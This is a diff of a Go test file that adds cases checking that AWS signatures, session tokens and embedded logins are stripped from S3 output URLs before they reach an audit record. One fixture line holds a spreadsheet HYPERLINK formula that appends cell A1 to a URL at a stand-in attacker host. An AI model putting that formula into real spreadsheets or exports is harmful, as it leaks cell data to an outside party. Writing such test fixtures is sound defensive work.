@@ -22,7 +22,24 @@ func TestOutputURLWithoutCredentials(t *testing.T) {
 		{"hostile text kept", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `=HYPERLINK("http://evil.example/?"&A1,"click")`},
 		{"sigv4", bare + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE%2F20250601%2Feu-west-1%2Fs3%2Faws4_request" +
 			"&X-Amz-Date=20250601T120000Z&X-Amz-Expires=3600&X-Amz-Security-Token=TOKEN&X-Amz-SignedHeaders=host&X-Amz-Signature=abc123", bare},
-		{"sigv4 with another parameter first", bare + "?versionId=3&X-Amz-Signature=abc123", bare},
+		{"sigv4 with another parameter first", bare + "?versionId=3&X-Amz-Signature=abc123", bare + "?versionId=3"},
+		{"sigv4 between other parameters", bare + "?versionId=3&X-Amz-Security-Token=TOKEN&partNumber=1", bare + "?versionId=3&partNumber=1"},
+		{"a login", "https://AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout", "https://ssm-out.s3.amazonaws.com/run/stdout"},
+		{"a login without a password", "https://AKIAEXAMPLE@ssm-out.s3.amazonaws.com/run/stdout", "https://ssm-out.s3.amazonaws.com/run/stdout"},
+		{"a login and a signature", "https://AKIAEXAMPLE:secret@ssm-out.s3.amazonaws.com/run/stdout?X-Amz-Signature=abc123", "https://ssm-out.s3.amazonaws.com/run/stdout"},
+		{"a login that does not parse", "https://AKIAEXAMPLE:sec#ret@ssm-out.s3.amazonaws.com/run/stdout", "ssm-out.s3.amazonaws.com/run/stdout"},
+		{"an @ in the key kept", "https://s3.amazonaws.com/ssm-out/erin@example.com/stdout", "https://s3.amazonaws.com/ssm-out/erin@example.com/stdout"},
+		// S3 keys may hold '#', which SSM may send as it is: what follows
+		// it is the key, not a fragment to cut.
+		{"a # in the key kept", "https://s3.amazonaws.com/bucket/build#12/i-0123456789abcdef0/UpdateAVSignatures/stdout",
+			"https://s3.amazonaws.com/bucket/build#12/i-0123456789abcdef0/UpdateAVSignatures/stdout"},
+		{"an escaped # in the key kept", "https://s3.amazonaws.com/bucket/build%2312/i-0123456789abcdef0/UpdateAVSignatures/stdout",
+			"https://s3.amazonaws.com/bucket/build%2312/i-0123456789abcdef0/UpdateAVSignatures/stdout"},
+		{"a # in the key, then a signature", "https://s3.amazonaws.com/bucket/build#12/stdout?X-Amz-Signature=abc123",
+			"https://s3.amazonaws.com/bucket/build#12/stdout"},
+		{"signature in a path step kept", bare + "/Signatures/stdout?versionId=3", bare + "/Signatures/stdout?versionId=3"},
+		{"an empty query kept", bare + "?", bare + "?"},
+		{"a value named like a parameter kept", bare + "?prefix=X-Amz-Signature", bare + "?prefix=X-Amz-Signature"},
 		{"sigv2", bare + "?AWSAccessKeyId=AKIAEXAMPLE&Expires=1748779200&Signature=vjbyPxybdZaNmGa%2ByT272YEAiv4%3D", bare},
 		{"lower case", bare + "?x-amz-security-token=TOKEN", bare},
 		{"names escaped", bare + "?X%2DAmz%2DSignature=abc123", bare},
@@ -40,7 +57,7 @@ func TestOutputURLWithoutCredentials(t *testing.T) {
 				Associations: []audit.Association{a}}); err != nil {
 				t.Fatal(err)
 			}
-			for _, secret := range []string{"TOKEN", "abc123", "AKIAEXAMPLE", "ASIAEXAMPLE", "vjbyPxybdZaNmGa"} {
+			for _, secret := range []string{"TOKEN", "abc123", "AKIAEXAMPLE", "ASIAEXAMPLE", "vjbyPxybdZaNmGa", "secret", "sec#ret"} {
 				if strings.Contains(tt.raw, secret) && strings.Contains(line.String(), secret) {
 					t.Errorf("the record holds %q: %s", secret, line.String())
 				}
